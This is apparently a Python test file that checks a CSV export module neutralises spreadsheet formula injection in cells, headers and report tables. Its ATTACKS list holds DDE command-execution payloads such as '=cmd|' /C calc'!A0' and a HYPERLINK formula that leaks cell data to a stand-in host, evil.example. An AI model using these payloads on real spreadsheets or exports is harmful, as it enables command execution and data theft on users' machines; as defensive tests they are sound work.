"""CSV that leaves Strata is safe in a spreadsheet: no cell or header runs as a formula."""

from __future__ import annotations

import csv
import io

import numpy as np
import pandas as pd
import pytest

from core.safe_csv import neutralise, safe_frame, to_csv
from tests.analysis.synthetic import bump, make_curve

ATTACKS = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_cells_get_a_leading_quote(attack):
    assert neutralise(attack) == "'" + attack


@pytest.mark.parametrize("value", ["-0.5", "+3", "-1e-3", "12", "plain text", "a=b", "", 3, -2.5])
def test_numbers_and_plain_text_are_left_alone(value):
    assert neutralise(value) == value


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_every_text_cell_and_header_of_a_frame_is_safe():
    frame = pd.DataFrame(
        {
            "=target": ATTACKS,
            "score": np.linspace(-1, 1, len(ATTACKS)),
            "kind": pd.Categorical(["@x"] * len(ATTACKS)),
        }
    )
    cells = _cells(to_csv(frame))
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) and c[0] != "'"]
    assert "-1.0" in cells  # a negative number stays a number
    safe = safe_frame(frame)
    assert list(safe.columns) == ["'=target", "score", "kind"]
    assert safe["score"].dtype == float


def _findings_db(tmp_path, stimulus_set: str):
    """A results database with one synthetic curve of a hostile stimulus set name."""
    from core.storage import store

    scores, folds = make_curve(bump(12, 5, 2), se=0.01, stimulus_set=stimulus_set, target="@t")
    scores, folds = (f.drop(columns=["model", "stimulus_set", "pooling"]) for f in (scores, folds))
    columns = [c for c, _ in store._columns()["probe_scores"] if c not in store.RESULT_KEY]
    scores = scores.reindex(columns=columns).assign(probe="svm", run_id="r", n_perm=0)
    db = tmp_path / "r.duckdb"
    run = {"run_id": "r", "model": "m", "stimulus_set": stimulus_set, "pooling": "mean"}
    store.write_run(db, run=run, tables={"probe_scores": scores, "fold_scores": folds})
    return db


def test_report_tables_are_safe_to_open(tmp_path, capsys):
    from core.__main__ import main

    attack = "=cmd|' /C calc'!A0"
    db = _findings_db(tmp_path, attack)
    out = tmp_path / "tables"
    code = main(["report", "--model", "m", "--db", str(db), "--out", str(out)])
    assert code == 0, capsys.readouterr().err
    files = sorted(out.glob("*.csv"))
    assert files
    texts = [f.read_text() for f in files]
    assert any("'" + attack in text for text in texts)  # it is there, as text
    for text in texts:
        assert not [c for c in _cells(text) if c.startswith(("=", "@"))]


def test_export_writes_hostile_stimuli_as_text(tmp_path, capsys, monkeypatch):
    """export's stimuli.csv and targets.json, from cached activations (no model needed)."""
    import json

    from core import pipeline
    from core.__main__ import main
    from core.config import RunConfig
    from core.stimuli import load
    from core.storage.activations import ActivationCache

    monkeypatch.setattr(pipeline, "_load_model", lambda *a: pytest.fail("model loaded"))
    n = 12
    frame = pd.DataFrame(
        {
            "item_id": [f"=i{k}" if k == 0 else f"i{k}" for k in range(n)],
            "text": [ATTACKS[k % len(ATTACKS)] + f" word{k}" for k in range(n)],
            "group": [f"@g{k}" for k in range(n)],
            "=evil:binary": ["0", "1"] * (n // 2),
            "r:continuous": [str(k - 5) for k in range(n)],
        }
    )
    csv_path = tmp_path / "hostile.csv"
    frame.to_csv(csv_path, index=False, quoting=csv.QUOTE_ALL)  # a bare \r would cut a row
    config = RunConfig(model="smollm2-135m", stimuli=str(csv_path), poolings=("mean",))
    stimuli = load(str(csv_path))
    key = pipeline.activation_keys(config, stimuli, pipeline.model_id(config))["mean"]
    arrays = {c: np.zeros((n, 3, 4), dtype=np.float32) for c in config.components}
    ActivationCache().save(key, arrays, {"model": {"name": "smollm2-135m"}})
    out = tmp_path / "out"
    code = main(["export", "--stimuli", str(csv_path), "--out", str(out), "--quiet"])
    assert code == 0, capsys.readouterr().err
    text = (out / "stimuli.csv").read_text()
    cells = _cells(text)
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    assert "'=cmd|' /C calc'!A0 word0" in cells and "-5.0" in cells
    back = pd.read_csv(out / "stimuli.csv")
    targets = json.loads((out / "targets.json").read_text())
    assert list(back.columns[:4]) == ["item_id", "text", "group", "words"]
    assert list(back.columns[4:]) == list(targets) == ["'=evil", "r"]
